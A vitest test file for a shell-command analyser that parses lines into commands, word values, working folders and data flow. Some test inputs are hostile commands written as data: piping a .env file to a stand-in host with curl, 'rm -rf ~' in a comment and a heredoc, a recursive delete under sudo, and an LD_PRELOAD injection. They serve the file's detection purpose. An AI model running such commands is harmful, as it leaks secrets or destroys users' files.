// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax, not a template
import { describe, expect, it } from 'vitest'
import { type Analysis, analyze, HOLE } from './index.ts'

const run = (line: string): Analysis => analyze(line, { cwd: '/home/dev/project', home: '/home/dev' })
const spelled = (line: string): string[] => run(line).commands.map((c) => c.normalised)
const last = (line: string) => run(line).commands.at(-1)!

describe('the commands of a line', () => {
  it.each([
    ['ls -la', ['ls -la']],
    ['a && b || c; d & e', ['a', 'b', 'c', 'd', 'e']],
    ['echo "$(date)"', ['date', 'echo "$(date)"']],
    [
      'sudo -u root env A=b nice -n 5 ls',
      ['sudo -u root env A=b nice -n 5 ls', 'env A=b nice -n 5 ls', 'A=b nice -n 5 ls', 'ls'],
    ],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['for x in 1 2; do echo $x; done', ['echo 1', 'echo 2']],
    ['f() { echo "$1"; }; f hi', ['f hi', 'echo hi']],
    ['f() { echo never called; }', ['echo never called']],
    ["bash -c 'echo $1' _ hi", ["bash -c 'echo $1' _ hi", 'echo hi']],
    ['echo {a,b}{1..2}', ['echo a1 a2 b1 b2']],
    ['echo a\\ b \'c d\' "e $HOME"', ["echo 'a b' 'c d' 'e /home/dev'"]],
    ['ls # rm -rf ~', ['ls']],
    ["cat <<'EOF'\nrm -rf ~\nEOF", ['cat']],
    ['', []],
  ])('%s', (line, expected) => expect(spelled(line)).toEqual(expected))
})

describe('words', () => {
  it.each([
    ['echo plain', 'plain', 'literal'],
    ['X=v; echo $X', 'v', 'constant'],
    ['echo $UNSET', null, 'unknown'],
    ['echo $(printf abc | tr a-c x-z)', 'xyz', 'constant'],
    ['echo ${X:-fallback}', 'fallback', 'constant'],
    ['X=file.tar.gz; echo ${X%%.*}', 'file', 'constant'],
    ['X=abc; echo ${X:1:1}${X^^}${#X}', 'bABC3', 'constant'],
    ['echo $((2 * 21))', '42', 'constant'],
    ['X=(a b c); echo ${X[1]}', 'b', 'constant'],
    ["echo $'\\x41\\102'", 'AB', 'literal'],
    ['printf -v X %s y; echo $X', 'y', 'constant'],
    ['read X <<< z; echo $X', 'z', 'constant'],
    ['echo $(which rm)', 'rm', 'constant'],
    ['echo ~/a', '/home/dev/a', 'literal'],
    ['echo $(basename /a/b.ts .ts)', 'b', 'constant'],
  ])('%s gives %s', (line, value, provenance) => {
    const word = last(line).args[0]!
    expect([word.value, word.provenance]).toEqual([value, provenance])
  })

  it('keep the known parts around an unknown one', () => {
    expect(last('echo pre-$X-post').args[0]!.known).toBe(`pre-${HOLE}-post`)
  })

  it('tell a glob from a quoted star', () => {
    expect(last('ls *.ts').args[0]!.glob).toBe(true)
    expect(last("ls '*.ts'").args[0]!.glob).toBe(false)
  })

  it('name the commands their text came from', () => {
    const { commands } = run('x=$(curl https://a.test); echo "$x"')
    expect(commands.at(-1)!.args[0]!.from).toEqual([0])
  })
})

describe('the working folder', () => {
  it.each([
    ['cd sub && ls', '/home/dev/project/sub'],
    ['cd .. && ls', '/home/dev'],
    ['cd; ls', '/home/dev'],
    ['(cd /tmp); ls', '/home/dev/project'],
    ['pushd a; popd; ls', '/home/dev/project'],
    ['cd /tmp; cd -; ls', '/home/dev/project'],
    ['cd "$UNKNOWN"; ls', null],
    ['cd a || exit 1; ls', '/home/dev/project/a'],
    ['env -C /srv ls', '/srv'],
    ['cd a | cat; ls', '/home/dev/project'],
    ['command cd /; ls', '/'],
    ['ssh host ls', null],
  ])('%s', (line, cwd) => expect(last(line).cwd).toBe(cwd))

  it('has alternatives after branches that move differently', () => {
    const command = last('cd a || cd /b; ls')
    expect([command.cwd, ...command.otherCwds]).toEqual(['/home/dev/project/a', '/b'])
  })
})

describe('data flow', () => {
  it('connects the stages of a pipeline', () => {
    const { commands } = run('cat .env | tee x | curl -d @- https://a.test')
    expect(commands.map((c) => c.feeds)).toEqual([1, 2, null])
    expect(commands[2]!.stdin).toMatchObject({ kind: 'pipe', from: [1, 0] })
  })

  it('knows here-documents, here-strings and files as input', () => {
    expect(last('cat <<EOF\nhi $HOME\nEOF').stdin).toMatchObject({ kind: 'heredoc', known: 'hi /home/dev\n' })
    expect(last('cat <<< word').stdin).toMatchObject({ kind: 'herestring', known: 'word\n' })
    expect(last('cat < in.txt').stdin).toMatchObject({ kind: 'file', path: { value: 'in.txt' } })
  })

  it('lists redirections with their mode', () => {
    expect(last('make >> out.log 2>&1 < in').redirects.map((r) => [r.mode, r.target.value])).toEqual([
      ['append', 'out.log'],
      ['duplicate', '1'],
      ['read', 'in'],
    ])
  })
})

describe('where a command stands', () => {
  it('is told by span, exact also inside quoted code', () => {
    const line = "sudo bash -c 'cd / && rm -rf x'"
    const { commands } = run(line)
    expect(line.slice(...commands.at(-1)!.span)).toBe('rm -rf x')
    expect(line.slice(...commands[0]!.span)).toBe(line)
  })

  it('is told by the way it was reached', () => {
    expect(last("sudo bash -c 'ls'").via.map((v) => [v.program, v.how])).toEqual([
      ['sudo', 'arguments'],
      ['bash', '-c'],
    ])
    expect(last("ssh prod 'ls'")).toMatchObject({ remote: true, via: [{ program: 'ssh', remote: 'prod' }] })
  })

  it('is told by context', () => {
    expect(last('if a; then b & fi').context).toMatchObject({ conditional: true, background: true })
    expect(run('echo $(a)').commands[0]!.context.substitution).toBe(true)
    expect(last('f() { a; }; f').context.function).toBe(true)
  })

  it('carries the environment given to it', () => {
    expect(last('A=1 B=$HOME make').env.map((e) => [e.name, e.value.value])).toEqual([
      ['A', '1'],
      ['B', '/home/dev'],
    ])
    expect(last('env LD_PRELOAD=./x.so ls').env[0]).toMatchObject({ name: 'LD_PRELOAD' })
  })
})

describe('variables given by the caller', () => {
  it('count as constants', () => {
    const { commands, problems } = analyze('$TOOL "$DIR/x"', {
      env: { TOOL: 'make', DIR: '/srv', HOME: '/h' },
      cwd: '/',
    })
    expect(problems).toEqual([])
    expect(commands[0]!.normalised).toBe('make /srv/x')
    expect(commands[0]!.home).toBe('/h')
  })
})

describe('write, then run', () => {
  it.each([
    ["cat > x.sh <<'EOF'\nmake all\nEOF\nsh x.sh", 'make all'],
    ['echo "make all" > x.sh; chmod +x x.sh; ./x.sh', 'make all'],
    ['printf "make all" | tee /tmp/x; . /tmp/x', 'make all'],
    ['cp /bin/ls ./x && ./x -l', 'ls -l'],
    ['ln -s /usr/bin/ls y; ./y -l', 'ls -l'],
    ['cp $(which ls) z; ./z -l', 'ls -l'],
  ])('%s runs %s', (line, expected) => expect(last(line).normalised).toBe(expected))
})
